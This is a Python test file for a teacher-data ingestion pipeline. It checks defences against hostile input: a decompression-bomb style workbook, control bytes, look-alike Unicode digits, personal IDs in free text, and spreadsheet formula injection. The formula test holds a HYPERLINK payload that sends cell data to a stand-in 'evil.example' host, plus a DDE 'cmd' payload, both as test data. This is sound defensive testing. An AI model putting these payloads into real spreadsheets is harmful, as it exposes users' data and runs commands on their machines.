"""Hostile and broken input (issue #12): the run goes on, the county hears why, nothing bogus lands.

Each test builds its small hostile file itself and asserts the outcome; those touching the
warehouse run on SQLite and on the real PostgreSQL (the ``engine`` fixture). Memory is measured
as the peak RSS of a child process running the ingestion (its own and its children's).
"""

from __future__ import annotations

import dataclasses
import io
import json
import os
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import select, text

from teachflow.ingestion import pipeline
from teachflow.ingestion.landing import list_landing
from teachflow.ingestion.pipeline import discover, ingest_landing
from teachflow.reference import load_reference
from teachflow.settings import MissingSecretError, load_settings
from teachflow.warehouse.schema import restricted_teacher_names, roster_entries, submissions, training_records
from tests.citykit import N1, NORTH, make_id, write_reference
from tests.test_ingest import (
    PERIOD,
    TRAINING_HEADER,
    count,
    drop,
    feedback,
    roster,
    status,
    teacher_row,
    training_row,
)

ROSTER_HEADER_ZH = ("身份证号", "姓名", "学校标识码", "骨干层级", "本校任职起始日期")


@pytest.fixture
def city(engine, warehouse_url, tmp_path):
    load_reference(engine, write_reference(tmp_path / "reference"))
    return dataclasses.replace(load_settings(), warehouse_url=warehouse_url, landing_quiet_seconds=0)


def message(settings, county: str, dataset: str, period: str = PERIOD) -> str:
    """The Chinese message of the feedback CSV's only line."""
    import csv

    path = settings.outbox / county / period / f"{dataset}.feedback.csv"
    with path.open(encoding="utf-8-sig", newline="") as f:
        [_header, line] = list(csv.reader(f))
    return line[6]  # row, name, column, value, code, outcome, then the Chinese message


def ledger(engine) -> list[tuple[str, str, str]]:
    with engine.connect() as conn:
        return [
            tuple(r)
            for r in conn.execute(
                select(submissions.c.period, submissions.c.dataset, submissions.c.status).order_by(
                    submissions.c.submission_id
                )
            )
        ]


# --- hostile workbooks, built by hand -----------------------------------------------------------------


def _inline(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


def workbook(rows_xml: str, dimension: str | None = None) -> bytes:
    """A minimal .xlsx (one sheet "teachers", inline strings) around ``rows_xml``."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        )
        z.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{pkg}"><Relationship Id="rId1" Type="{rel}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        )
        z.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
            '<sheet name="teachers" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{pkg}"><Relationship Id="rId1" Type="{rel}/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
        )
        dim = f'<dimension ref="{dimension}"/>' if dimension else ""
        z.writestr(
            "xl/worksheets/sheet1.xml", f'<worksheet xmlns="{main}">{dim}<sheetData>{rows_xml}</sheetData></worksheet>'
        )
    return buffer.getvalue()


def roster_workbook(*extra_rows: str, dimension: str | None = None) -> bytes:
    header = "".join(_inline(f"{c}1", h) for c, h in zip("ABCDE", ROSTER_HEADER_ZH, strict=True))
    first = "".join(
        _inline(f"{c}2", v) for c, v in zip("ABCDE", (make_id(1), "教师1", N1, "骨干教师", "2015-09-01"), strict=True)
    )
    return workbook(f'<row r="1">{header}</row><row r="2">{first}</row>' + "".join(extra_rows), dimension)


FAR_CELL = f'<row r="1048576">{_inline("XFD1048576", "x")}</row>'


# --- 1. bounded parsing ---------------------------------------------------------------------------------


def test_a_cell_at_XFD1048576_is_rejected_unread_and_the_next_file_is_taken(city, engine):
    """The 1.7 KB workbook that aborted the whole process (its dimension says XFD1048576)."""
    bomb = roster_workbook(FAR_CELL, dimension="A1:XFD1048576")
    assert len(bomb) < 2_000
    drop(city, f"{NORTH}/{PERIOD}/teachers.xlsx", bomb)
    drop(city, f"{NORTH}/2026-09/teachers.csv", roster(teacher_row(1)))

    outcomes = ingest_landing(engine, city)

    assert [(o.label, o.status) for o in outcomes] == [
        (f"{NORTH}/teachers/2026-09", "accepted"),
        (f"{NORTH}/teachers/{PERIOD}", "rejected"),
    ]
    [(_row, _col, _value, code)] = feedback(city, NORTH, "teachers")
    assert code == "file_unreadable"
    assert status(city, NORTH, "teachers")["outcome"] == "rejected"
    with engine.connect() as conn:
        assert conn.execute(select(roster_entries.c.period).distinct()).scalars().all() == ["2026-09"]


_MEASURED_INGEST = """
import dataclasses, json, resource, sys
from teachflow.settings import load_settings
from teachflow.ingestion.pipeline import ingest_landing
from teachflow.warehouse.engine import make_engine
settings = dataclasses.replace(load_settings(), landing_quiet_seconds=0)
engine = make_engine(settings.warehouse_url)
outcomes = ingest_landing(engine, settings)
peak = max(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
print(json.dumps({"outcomes": [[o.label, o.status] for o in outcomes], "peak_kib": peak}))
"""


def test_a_workbook_hiding_its_extent_hits_the_memory_cap_in_a_child_not_the_run(city, engine, warehouse_url):
    """No dimension declared: only the parse finds out. The capped child dies, the run goes on,
    and the whole ``teachflow ingest`` process (with its children) stays far below the 512 GiB."""
    drop(city, f"{NORTH}/{PERIOD}/teachers.xlsx", roster_workbook(FAR_CELL))
    drop(city, f"{NORTH}/2026-09/teachers.csv", roster(teacher_row(1)))
    env = {
        **os.environ,
        "TEACHFLOW_WAREHOUSE_URL": warehouse_url,
        "TEACHFLOW_DATA_DIR": str(city.data_dir),
        "TEACHFLOW_PARSE_MEMORY_BYTES": str(1024**3),
    }
    done = subprocess.run(
        [sys.executable, "-c", _MEASURED_INGEST], env=env, capture_output=True, text=True, timeout=600
    )
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout.strip().splitlines()[-1])
    assert result["outcomes"] == [
        [f"{NORTH}/teachers/2026-09", "accepted"],
        [f"{NORTH}/teachers/{PERIOD}", "rejected"],
    ]
    [(_row, _col, _value, code)] = feedback(city, NORTH, "teachers")
    assert code == "file_unreadable"
    assert "1024 MiB" in message(city, NORTH, "teachers")
    print(f"peak RSS of the ingest process and its children: {result['peak_kib'] / 1024:.0f} MiB")
    assert result["peak_kib"] < 1024 * 1024, f"peak {result['peak_kib'] / 1024:.0f} MiB"


def test_a_400_mb_cell_is_refused_by_its_compression_ratio_and_echoes_stay_short(city, engine):
    """The 409 KB workbook with a 400 MB cell (here 20 MB in ~20 KB): refused before parsing; and a
    long bad value in a CSV is echoed truncated in the feedback CSV, XLSX and messages alike."""
    huge = "9" * 20_000_000
    drop(city, f"{NORTH}/{PERIOD}/teachers.xlsx", roster_workbook(f'<row r="3">{_inline("A3", huge)}</row>'))
    long_code = "X" * 100_000
    drop(city, f"{NORTH}/2026-09/teachers.csv", roster(teacher_row(1), f"{make_id(2)},教师2,{long_code},,2015-09-01"))

    outcomes = {o.label: o.status for o in ingest_landing(engine, city)}

    assert outcomes[f"{NORTH}/teachers/{PERIOD}"] == "rejected"
    [(_row, _col, _value, code)] = feedback(city, NORTH, "teachers")
    assert code == "file_unreadable" and "压缩比" in message(city, NORTH, "teachers")
    folder = city.outbox / NORTH / "2026-09"
    assert outcomes[f"{NORTH}/teachers/2026-09"] == "rejected"  # one bad row of two: over the threshold
    lines = feedback(city, NORTH, "teachers", period="2026-09")
    assert any(line[3] == "school_code_format" for line in lines)
    assert all(len(line[2]) < 300 for line in lines)
    for name in ("teachers.feedback.csv", "teachers.feedback.xlsx", "teachers.status.json"):
        assert (folder / name).stat().st_size < 20_000, name


# --- 2. no poison files -----------------------------------------------------------------------------


def test_a_nul_byte_in_a_name_is_a_row_problem_not_a_poison_file(city, engine):
    """PostgreSQL's COPY failed on the NUL on every run, forever; SQLite stored it."""
    rows = [training_row(i) for i in range(1, 30)] + [training_row(30).replace("教师30", "教\x00师")]
    drop(city, f"{NORTH}/{PERIOD}/training_records.csv", "\n".join([TRAINING_HEADER, *rows]) + "\n")
    drop(city, f"{NORTH}/{PERIOD}/teachers.csv", roster(teacher_row(1), f"{make_id(2)},教\x01师,{N1},,2015-09-01"))

    outcomes = {o.label: o for o in ingest_landing(engine, city)}

    training = outcomes[f"{NORTH}/training_records/{PERIOD}"]
    assert (training.status, training.rows_loaded, training.rows_rejected) == ("accepted", 29, 1)
    [(row, column, value, code)] = feedback(city, NORTH, "training_records")
    assert (row, column, code) == ("31", "姓名", "control_character") and "\x00" not in value
    # A roster may hold no bad row: rejected as a whole, with the row named, and final.
    assert outcomes[f"{NORTH}/teachers/{PERIOD}"].status == "rejected"
    assert ("3", "姓名", "control_character") in [line[:2] + line[3:] for line in feedback(city, NORTH, "teachers")]
    with engine.connect() as conn:
        names = conn.execute(select(restricted_teacher_names.c.name)).scalars().all()
    assert len(names) == 29 and not any("\x00" in n for n in names)
    assert count(engine, training_records) == 29 and count(engine, roster_entries) == 0
    assert ingest_landing(engine, city) == []  # both taken once, not retried


def test_an_unexpected_error_is_recorded_retried_then_quarantined(city, engine, monkeypatch, caplog):
    drop(city, f"{NORTH}/{PERIOD}/teachers.csv", roster(teacher_row(1)))

    def broken(*args, **kwargs):
        raise RuntimeError("a bug met a file")

    monkeypatch.setattr(pipeline, "judge", broken)
    assert [o.status for o in ingest_landing(engine, city)] == ["failed"]
    assert [line[3] for line in feedback(city, NORTH, "teachers")] == ["processing_failed"]
    assert ledger(engine) == [(PERIOD, "teachers", "received")]
    assert [o.status for o in ingest_landing(engine, city)] == ["failed"]  # retried: not "nothing new"
    assert [o.status for o in ingest_landing(engine, city)] == ["quarantined"]  # the 3rd failure

    assert ledger(engine) == [(PERIOD, "teachers", "abandoned")] * 2 + [(PERIOD, "teachers", "quarantined")]
    assert [line[3] for line in feedback(city, NORTH, "teachers")] == ["file_quarantined"]
    assert status(city, NORTH, "teachers")["outcome"] == "quarantined"
    assert any(r.getMessage().startswith("ALERT teachflow") for r in caplog.records)
    assert ingest_landing(engine, city) == []  # set aside, not retried forever
    assert count(engine, roster_entries) == 0

    from teachflow.submission_status import statuses

    with engine.connect() as conn:
        [found] = statuses(conn, [PERIOD], county_codes_=[NORTH], datasets=["teachers"])
    assert found.status == "rejected"  # cycle.md: quarantined counts as a rejection, not "processing"


def test_a_killed_take_is_abandoned_once_a_later_take_finishes(city, engine):
    drop(city, f"{NORTH}/{PERIOD}/teachers.csv", roster(teacher_row(1)))
    [file] = discover(engine, city)
    from teachflow.ingestion import ledger as ledger_module
    from teachflow.ingestion.archive import archive_file

    archived = archive_file(file.url, city.archive, file.file_format)
    with engine.begin() as conn:  # what a kill -9 right after the ledger row leaves behind
        ledger_module.record_received(conn, file, archived)

    assert [o.status for o in ingest_landing(engine, city)] == ["accepted"]
    assert ledger(engine) == [(PERIOD, "teachers", "abandoned"), (PERIOD, "teachers", "accepted")]


# --- 3. strict identities ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("relative", "code"),
    [
        (f"{NORTH}/2026-04\n/teachers.csv", "wrong_folder_period"),
        (f"{NORTH}/1\u0669" + "99-01/teachers.csv", "wrong_folder_period"),  # an Arabic-Indic nine
        ("45020\uff12/2026-04/teachers.csv", "wrong_folder_county"),  # a full-width two
        (f"{NORTH}/2026-04/teachers\u0130.csv", "wrong_folder_dataset"),
    ],
)
def test_identities_are_ascii_digits_and_nothing_after(city, engine, relative, code):
    drop(city, relative, roster(teacher_row(1)))
    [outcome] = ingest_landing(engine, city)
    assert outcome.status == "rejected"
    assert count(engine, roster_entries) == 0
    with engine.connect() as conn:
        [reasons] = conn.execute(select(submissions.c.reasons)).scalars().all()
    assert json.loads(reasons)[0]["code"] == code


# --- 4. limits before work --------------------------------------------------------------------------


def test_the_size_limit_is_checked_from_the_listing_and_while_copying(city, engine, monkeypatch):
    settings = dataclasses.replace(city, max_file_bytes=200)
    path = drop(settings, f"{NORTH}/{PERIOD}/teachers.csv", roster(*(teacher_row(i) for i in range(1, 9))))
    copied: list[str] = []
    real_archive = pipeline.archive_file
    monkeypatch.setattr(pipeline, "archive_file", lambda *a, **k: copied.append(a[0]) or real_archive(*a, **k))

    [outcome] = ingest_landing(engine, settings)  # the listing says too large: never copied
    assert outcome.status == "rejected" and copied == []
    assert [line[3] for line in feedback(settings, NORTH, "teachers")] == ["file_too_large"]

    # The listing said small (a stale size), the bytes are not: the copy stops at the limit.
    [file] = [f for f in list_landing(settings.landing) if f.url == str(path)]
    stale = dataclasses.replace(file, size=10, mtime=file.mtime + 1)
    outcome = pipeline.ingest_file(engine, settings, stale)
    assert outcome.status == "rejected" and copied == [str(path)]
    assert not [p for p in settings.archive.rglob("*") if p.is_file()]


def test_a_paused_upload_waits_for_its_done_marker(city, engine):
    """The roster uploaded in two halves with a pause longer than the quiet time: a folder where
    the county writes ``.done`` markers waits for the roster's own marker, whatever the quiet time."""
    settings = dataclasses.replace(city, landing_quiet_seconds=60)
    folder = f"{NORTH}/{PERIOD}"
    flows = drop(settings, f"{folder}/teacher_flows.csv", "id_number,flow_type\n")
    drop(settings, f"{folder}/teacher_flows.csv.done", "")
    full = roster(*(teacher_row(i) for i in range(1, 41)))
    half = drop(settings, f"{folder}/teachers.csv", full[: len(full) // 2])
    long_ago = time.time() - 3600
    os.utime(half, (long_ago, long_ago))
    os.utime(flows, (long_ago - 10, long_ago - 10))

    assert [f.dataset for f in discover(engine, settings)] == ["teacher_flows"]  # not the half roster

    half.write_text(full, encoding="utf-8")
    drop(settings, f"{folder}/teachers.csv.done", "")
    assert sorted(f.dataset for f in discover(engine, settings)) == ["teacher_flows", "teachers"]
    outcomes = {o.label: o for o in ingest_landing(engine, settings)}
    assert outcomes[f"{NORTH}/teachers/{PERIOD}"].rows_loaded == 40
    assert not any(o.label.endswith(".done") or "done" in o.label for o in outcomes.values())


# --- 5. feedback is never lost ----------------------------------------------------------------------


def test_an_unwritable_outbox_fails_the_take_and_the_feedback_arrives_later(city, engine, capsys):
    broken_outbox = city.outbox
    broken_outbox.parent.mkdir(parents=True, exist_ok=True)
    broken_outbox.write_text("a file where the outbox folder should be", encoding="utf-8")
    drop(city, f"{NORTH}/{PERIOD}/teachers.csv", roster(teacher_row(1), teacher_row(2)))

    [outcome] = ingest_landing(engine, city)
    assert outcome.status == "failed"
    assert count(engine, roster_entries) == 0  # the merge rolled back with the feedback
    assert ledger(engine) == [(PERIOD, "teachers", "received")]

    broken_outbox.unlink()
    [outcome] = ingest_landing(engine, city)  # retried, not "Nothing new"
    assert outcome.status == "accepted" and count(engine, roster_entries) == 2
    assert status(city, NORTH, "teachers")["outcome"] == "accepted"
    assert ledger(engine) == [(PERIOD, "teachers", "abandoned"), (PERIOD, "teachers", "accepted")]

    # The county lost its copy: resend rewrites it from the ledger and the archive.
    from teachflow.cli import main

    for path in (city.outbox / NORTH / PERIOD).iterdir():
        path.unlink()
    os.environ["TEACHFLOW_WAREHOUSE_URL"] = city.warehouse_url
    try:
        assert main(["feedback", "resend", "--county", NORTH, "--period", PERIOD]) == 0
    finally:
        del os.environ["TEACHFLOW_WAREHOUSE_URL"]
    resent = status(city, NORTH, "teachers")
    assert (resent["outcome"], resent["rows_loaded"]) == ("accepted", 2)
    assert feedback(city, NORTH, "teachers") == []
    assert "feedback written" in capsys.readouterr().out


# --- 6. formulas ------------------------------------------------------------------------------------


def test_reference_names_that_look_like_formulas_stay_text_in_every_workbook(tmp_path):
    """A school name from the reference data such as ``=HYPERLINK(...)`` became a live formula in
    the rotation and assessment workbooks; both are written through ``reports.xlsx_kit``, the
    feedback CSV and the templates through the same helper."""
    import csv

    from openpyxl import load_workbook

    from teachflow.ingestion.feedback import write_feedback
    from teachflow.problems import Problem
    from teachflow.reports.xlsx_kit import Book, Column
    from teachflow.spreadsheet_text import neutralize_formula

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    book = Book(tmp_path / "report.xlsx", "交流轮岗月报")
    ws, row = book.sheet("区县", as_of="截至 2026-10-31")
    book.table(
        ws,
        row,
        [Column("name", "学校", "name"), Column("n", "人数", "int")],
        [{"name": hostile, "n": 3}, {"name": "+cmd|' /C calc'!A0", "n": 1}, {"name": "@SUM(1+1)", "n": 2}],
    )
    book.close()
    cells = [c for r in load_workbook(tmp_path / "report.xlsx")["区县"].iter_rows() for c in r if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {"'" + hostile, "'+cmd|' /C calc'!A0", "'@SUM(1+1)"} <= {c.value for c in cells}

    problems = [Problem("vocab_unknown", row=2, column="tier", value="-2+3", params={"allowed": "无"})]
    files = write_feedback(tmp_path / "outbox", NORTH, PERIOD, "teachers", problems, {"outcome": "rejected"})
    with files.csv.open(encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f))[1][3] == "'-2+3"  # the value column, after row, name and column
    assert [neutralize_formula(v) for v in ("\tx", "\rx", "城中", 3, None)] == ["'\tx", "'\rx", "城中", 3, None]


# --- 7. personal data in free text ------------------------------------------------------------------


def test_a_resident_id_in_a_free_text_column_never_reaches_analysts(city, engine):
    leaked = make_id(77)
    header = TRAINING_HEADER + ",organizer"
    rows = [training_row(i) + ",市教育局" for i in range(1, 30)] + [training_row(30) + f",联系人身份证{leaked}"]
    drop(city, f"{NORTH}/{PERIOD}/training_records.csv", "\n".join([header, *rows]) + "\n")

    [outcome] = ingest_landing(engine, city)

    assert (outcome.status, outcome.rows_loaded) == ("accepted", 29)
    [(row, column, value, code)] = feedback(city, NORTH, "training_records")
    assert (row, column, code) == ("31", "主办单位", "pii_in_text")
    assert leaked not in value and leaked[:4] in value  # masked in the feedback too
    with engine.connect() as conn:
        organizers = conn.execute(text("SELECT organizer FROM analyst_training")).scalars().all()
        stored = conn.execute(select(training_records.c.organizer)).scalars().all()
    assert len(organizers) == 29 and not any(leaked in (o or "") for o in organizers + stored)


# --- 9. safe defaults ---------------------------------------------------------------------------------


def test_a_short_id_secret_is_refused(monkeypatch):
    monkeypatch.setenv("TEACHFLOW_ID_SECRET", "x")
    with pytest.raises(MissingSecretError, match="at least 32"):
        load_settings().id_secret()
    monkeypatch.setenv("TEACHFLOW_ID_SECRET", "y" * 32)
    assert load_settings().id_secret() == b"y" * 32


def test_warehouse_archive_secret_and_feedback_are_not_world_readable(tmp_path, monkeypatch):
    from teachflow.cli import main
    from teachflow.ingestion.archive import archive_file
    from teachflow.ingestion.feedback import write_feedback
    from teachflow.warehouse.migrate import upgrade

    old = os.umask(0o022)
    try:
        monkeypatch.delenv("TEACHFLOW_ID_SECRET")
        assert main(["secret", "init"]) == 0
        settings = load_settings()
        db = tmp_path / "fresh" / "warehouse.db"
        upgrade(f"sqlite:///{db}")
        source = tmp_path / "in.csv"
        source.write_text("id_number\n", encoding="utf-8")
        archived = archive_file(str(source), settings.archive, "csv")
        files = write_feedback(settings.outbox, NORTH, PERIOD, "teachers", [], {"outcome": "accepted"})
    finally:
        os.umask(old)

    def mode(path: Path) -> int:
        return stat.S_IMODE(path.stat().st_mode)

    assert mode(settings.id_secret_file) == 0o600
    assert mode(db) == 0o600 and mode(db.parent) == 0o700
    assert mode(settings.archive) == 0o700 and mode(archived.path) == 0o600
    assert mode(files.csv) & 0o007 == 0 and mode(files.xlsx) & 0o007 == 0
